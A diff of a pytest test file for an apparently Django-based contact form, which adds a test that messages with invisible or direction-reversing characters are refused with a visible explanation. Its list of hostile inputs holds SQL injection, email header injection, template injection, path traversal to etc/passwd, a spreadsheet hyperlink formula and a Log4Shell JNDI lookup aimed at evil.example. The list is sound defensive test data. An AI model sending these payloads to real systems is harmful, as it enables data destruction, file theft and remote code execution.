@@ -32,12 +32,10 @@ HOSTILE = [
     "{{ settings.SECRET_KEY }}{% load x %}",
     "' OR 1=1; DROP TABLE stepchange_user; --",
     "a\r\nBcc: everyone@evil.example\r\n\r\nBuy",
-    "\u202etxt.exe",
     "Z\u0351\u036b\u0343a\u0329l\u0321g",
     "👩‍👩‍👧‍👦 🏴󠁧󠁢󠁷󠁬󠁳󠁿",
     '=HYPERLINK("http://evil.example")',
     "%00%0d%0a",
-    "\ufeff\u200b",
     "..\\..\\..\\etc\\passwd",
     "${jndi:ldap://evil.example/a}",
 ]
@@ -132,6 +130,16 @@ def test_a_message_may_be_exactly_as_long_as_is_said_its_line_breaks_counted_onc
 def test_a_megabyte_is_refused_with_a_page(client):
     response = post(client, message="x" * 1024 * 1024)
     assert response.status_code == 413
+    assert not ContactMessage.objects.exists()
+
+
+@pytest.mark.parametrize("payload", ["\u202etxt.exe", "\ufeff\u200b"])
+def test_what_nobody_sees_is_refused_in_words(client, payload: str):
+    page = post(client, message=f"Which projects?{payload}")
+
+    assert (
+        "There is a character that can’t be seen after “Which projects?”" in page.content.decode()
+    )
     assert not ContactMessage.objects.exists()
 
 
